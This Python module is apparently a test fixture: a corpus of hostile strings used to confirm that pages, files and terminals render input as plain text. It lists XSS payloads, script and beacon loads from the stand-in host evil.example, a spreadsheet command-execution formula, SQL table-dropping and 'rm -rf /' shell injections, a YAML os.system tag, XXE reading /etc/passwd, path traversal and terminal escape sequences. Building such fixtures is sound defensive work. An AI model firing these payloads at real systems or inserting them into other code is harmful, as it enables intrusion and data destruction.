r"""Texts that would do harm if any page, file or terminal took them for more than text.

Each has a word of its own (`marker`), by which a reader and the search still know it. What could run sets
`window.__pwned` in the page, opens a dialog, or asks for something at https://evil.example; none of it may happen.
"""

from __future__ import annotations

import unicodedata
from dataclasses import dataclass

SIGN = "__pwned"
"""The global that every payload sets."""
_PLACE = "§"  # of the marker in the texts below; a text without it begins with its marker


@dataclass(frozen=True)
class Hostile:
    """A text of the corpus.

    Attributes:
        name: what it tries.
        marker: the readable word in it; empty where nothing readable is in it at all.
        text: the text; a lone surrogate stands for a byte that is no UTF-8.
    """

    name: str
    marker: str
    text: str

    @property
    def stored(self) -> bytes:
        """The bytes of the text in a database: not always UTF-8, with CAST(? AS TEXT) SQLite keeps them."""
        return self.text.encode("utf-8", "surrogateescape")

    @property
    def read(self) -> str:
        """The text as it is read back: what is no UTF-8 became the replacement character."""
        return self.stored.decode("utf-8", "replace")


_SET = "window.__pwned=1"
_TEXTS: dict[str, str] = {
    # HTML, SVG and MathML
    "script": f"<script>{_SET};alert(1)</script> §",
    "script-source": "§ <script src=https://evil.example/x.js></script>",
    "image-handler": f"§ <img src=x onerror={_SET}>",
    "image-beacon": "§ <img src=https://evil.example/beacon.png>",
    "broken-attribute": f'" onmouseover="{_SET}" autofocus onfocus="{_SET}" x=" §',
    "single-quotes": f"' onmouseover='{_SET}' § '><svg/onload='{_SET}'>",
    "svg-load": f"§ <svg onload={_SET}><animate onbegin={_SET} attributeName=x></svg>",
    "svg-script": f"<svg><script>{_SET}</script></svg> §",
    "mathml": f"<math><mtext><table><mglyph><style><img src=x onerror={_SET}>§",
    "details": f"<details open ontoggle={_SET}>§</details>",
    "iframe": f"§ <iframe srcdoc='<script>parent.{_SET.removeprefix('window.')}</script>'></iframe>",
    "object": f'<object data="data:text/html,<script>opener.{SIGN}=1</script>"></object> §',
    "embed": "<embed src=https://evil.example/x.swf> §",
    "form": f"§ </form><form action=https://evil.example><button formaction=javascript:{_SET}>ok",
    "base": "<base href=https://evil.example/> §",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'> §",
    "style-element": "</style><style>*{background:url(https://evil.example/css)}</style> §",
    "style-attribute": '§ <p style="background:url(https://evil.example/p)">p</p>',
    "css-import": "} @import 'https://evil.example/a.css'; § {",
    "link-sheet": "<link rel=stylesheet href=https://evil.example/l.css> §",
    "template-element": f"<template><img src=x onerror={_SET}></template> §",
    "noscript": f'§ <noscript><p title="</noscript><img src=x onerror={_SET}>">',
    "closing-tags": f"</td></tr></table></dl></section></main><img src=x onerror={_SET}> §",
    "closing-title": f"</title></head><script>{_SET}</script> §",
    "closing-textarea": f"</textarea></select></template><img src=x onerror={_SET}> §",
    "unclosed-comment": "<!-- § everything below is gone",
    "conditional-comment": f"<!--[if gte IE 4]><script>{_SET}</script><![endif]--> §",
    "cdata": f"<![CDATA[<script>{_SET}</script>]]> §",
    "processing-instruction": "<?php echo 1 ?> §",
    "unfinished-tag": f"§ <img src=x onerror={_SET} ",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;lt; § &nosuch;",
    "entity-handler": f"§ &#x3c;img src=x onerror={_SET}&#x3e;",
    "null-in-tag": f"<scr\x00ipt>{_SET}</scr\x00ipt> §",
    # links
    "script-link": f"[§](javascript:{_SET})",
    "script-link-mixed": f"[§](JaVa\tScRiPt:{_SET})",
    "data-link": f"[§](data:text/html,<script>opener.{SIGN}=1</script>)",
    "vbscript-link": "[§](vbscript:msgbox)",
    "html-link": f"<a href=javascript:{_SET}>§</a>",
    "reference-link": f"[§][r]\n\n[r]: javascript:{_SET}",
    "markdown-image": "![§](https://evil.example/image.png)",
    "autolink": f"<javascript:{_SET}> <https://evil.example/auto> §",
    "bare-address": "https://evil.example/§?a=b&c=d#e",
    "link-title": f'[§](https://evil.example "\\" onclick={_SET}")',
    # Markdown and what builders add to it
    "attribute-list": f"§ {{: onclick={_SET} style=display:none }}",
    "attribute-list-bare": f"§ {{onclick={_SET} .rs-hidden #id}}",
    "jinja": "{{ 7*191 }} {{ config.__class__ }} {% for x in y %} § {# gone #}",
    "jinja-block": "{% include '/etc/passwd' %} {% raw %} §",
    "expressions": "${7*191} #{7*191} <%= 7*191 %> {{constructor.constructor('x')()}} §",
    "snippet": '--8<-- "/etc/passwd" §',
    "admonition": '!!! danger "§"\n    inside',
    "collapsible": '???+ note "§"\n    inside',
    "table-row": "| § | b |\n|---|---|\n| c | d |",
    "pipes": "a | § \\| c || d `x|y` |",
    "backticks": "` `` ``` ```` § ` `` ```",
    "fence": f"```html\n<script>{_SET}</script>\n```\n§",
    "tildes": "~~~ {.python linenums=1}\n§\n~~~",
    "footnote": "§[^1]\n\n[^1]: a footnote",
    "abbreviation": "*[HTML]: § abbreviated",
    "contents": "[TOC] § [[toc]]",
    "emoji-codes": ":smile: :material-skull: :fontawesome-brands-x: §",
    "emphasis": "**§** __b__ *i* _i_ ***x*** ~~s~~ ==m== ++i++ ^^u^^",
    "heading": "# §\n## second",
    "setext": "§\n======\n\nsecond\n------",
    "list": "- § \n* b\n+ c\n1. d",
    "quote": "> § \n> > deeper",
    "rule": "***\n§\n* * *",
    "definition": "§\n:   a definition",
    "indented": "    § indented code",
    "hard-break": "§  \nsecond\\\nthird",
    "backslashes": "\\§ \\<b\\> \\` \\\\ \\u003cscript\\u003e \\x3cimg\\x3e",
    "tasks": "- [x] § [ ] y",
    "math": "$\\href{javascript:alert(1)}{§}$ \\(a\\) \\[b\\] $$c$$",
    "critic": "{++§++} {--gone--} {>>comment<<}",
    "mermaid": f'```mermaid\ngraph TD; A[§]-->B; click A "javascript:{_SET}"\n```',
    "stash": "wzxhzdk:0 klzzwxh:0001 \x02wzxhzdk:0\x03 §",
    # YAML and front matter
    "front-matter": "---\ntitle: § owned\ntemplate: ../../x.html\n---\n",
    "yaml-tag": "!!python/object/apply:os.system ['echo §']",
    "yaml-alias": "*alias &anchor § !tag %YAML 1.2",
    "yaml-marks": "§: # comment, - item, [a, b], {c: d}, ? e, | f, > g, \"h\", 'i', @j, `k",
    "yaml-words": "no §",
    "quotes": '"§" \'single\' """triple""" “curly”',
    # spreadsheets
    "formula": "=CMD|'/C calc'!A0 §",
    "formula-link": '=HYPERLINK("https://evil.example","§")',
    "formula-plus": "+1+§",
    "formula-minus": "-2+3+§",
    "formula-at": "@SUM(1+1)*§",
    "formula-tab": "\t=1+§",
    "formula-return": "\r=1+§",
    "formula-line": "\n=1+§",
    "formula-wide": "\uff1d1+\uff0b1 §",
    "formula-quote": '",=1+1,"§',
    # scripts, JSON, URLs
    "script-end": f"</script><script>{_SET}</script><!-- §",
    "script-comment": "<!--<script> § </script>-->",
    "json-breaker": f'"}};{_SET};({{"§":"',
    "template-literal": f"`${{{_SET}}}` §",
    "line-separators": f"§\u2028{_SET}\u2029//",
    "prototype": "__proto__ §",
    "vega-expression": f"datum.constructor.constructor('{_SET}')() §",
    "vega-signal": f'{{"signal": "[1].map(x=>{_SET})"}} §',
    "tabulator": '{"formatter":"html","§":"<b>x</b>"}',
    "address-state": "§&runs=a,b#q=;x=%00&cols=%2e%2e",
    "percent-codes": "%3Cscript%3E%22%27%00%0d%0a § %E0%A4%A",
    "search-query": "+§ -b ~c^9 title:* d~2 *",
    "regex": "§ ((a+)+)+$ [\\d-x] (?:",
    "sql": "§'; DROP TABLE experiment_runs; --",
    "shell": "$(touch §) `id` ; rm -rf / && echo",
    "xml": "<?xml version='1.0'?> § <!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;",
    # characters
    "nul": "§\x00after\x00",
    "escape-codes": "\x1b[31m § \x1b[0m\x1b[2J\x07",
    "escape-title": "\x1b]0;owned\x07 §",
    "escape-link": "\x1b]8;;https://evil.example\x1b\\§\x1b]8;;\x1b\\",
    "escape-c1": "\x9b31m § \x9d0;owned\x9c \x85",
    "backspaces": "good\b\b\b\b § \x7f\x7f",
    "line-ends": "§\r\nsecond\rthird\nfourth\x0bfifth\x0csixth",
    "direction": "§ \u202egnp.exe\u202c \u2066x\u2069 \u200f\u061c",
    "zero-width": "§ a\u200bb\u2060c\ufeffd\u00ade\u200c",
    "zalgo": "§ z" + "\u0300\u0301\u0302\u0489\u0363" * 60 + " end",
    "right-to-left": "§ مشروع בדיקה",
    "not-characters": "§ \ufffe \uffff \U0001fffe \U0010ffff",
    "private-and-tags": "§ \ue000 \U000e0041\U000e007f \ufff9x\ufffa\ufffb",
    "invalid-bytes": "§ \udcff\udc80\udced\udca0\udc80 end",
    "emoji": "§ 👩‍🚀 ❤️‍🔥 🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    # lengths
    "long-word": "§" + "x" * 10_000,
    "long-text": "§ " + "<b>&'\"` " * 1_200,
    "empty": "",
    "blank": " \u00a0\u3000 ",
    # file names and slugs
    "traversal": "../../../etc/§",
    "traversal-windows": "..\\..\\windows\\§",
    "absolute": "/§/../x",
    "drive": "C:\\§:stream",
    "device": "CON",
    "device-file": "aux.html",
    "dots": ".",
    "more-dots": "..",
    "trailing-dot": "§. ",
    "hidden": ".§",
    "case-small": "twin case",
    "case-large": "TWIN CASE",
    "composed": unicodedata.normalize("NFC", "Ångström café"),
    "decomposed": unicodedata.normalize("NFD", "Ångström café"),
    "index": "index",
    "index-page": "index.html",
    "assets": "assets",
    "tilde": "~§",
    # names that programs use themselves
    "proto": "__proto__",
    "constructor": "constructor",
    "to-string": "toString",
    "has-own": "hasOwnProperty",
    "game-name": "ALE/Breakout-v5",
    "config-key": "learning_rate",
    "metric-name": "episode_reward_mean",
    "row": "row",
    "state": "state",
    "none": "None",
    "not-a-number": "NaN",
    "true": "true",
    "number": "1e999",
}
_WITHOUT_MARKER = frozenset(
    {"empty", "blank", "device", "device-file", "dots", "more-dots", "index", "index-page", "assets"}
    | {"proto", "constructor", "to-string", "has-own", "game-name", "config-key", "metric-name", "row", "state"}
    | {"none", "not-a-number", "true", "number", "case-small", "case-large", "composed", "decomposed"}
)  # fmt: skip


def _made(name: str, text: str) -> Hostile:
    """Markers begin and end alike, so that none is the beginning of another."""
    marker = "" if name in _WITHOUT_MARKER else f"zz{name.replace('-', '')}yy"
    return Hostile(name, marker, text.replace(_PLACE, marker))


CORPUS: tuple[Hostile, ...] = tuple(_made(name, text) for name, text in _TEXTS.items())
BY_NAME = {hostile.name: hostile for hostile in CORPUS}
TEXTS = tuple(hostile.text for hostile in CORPUS)
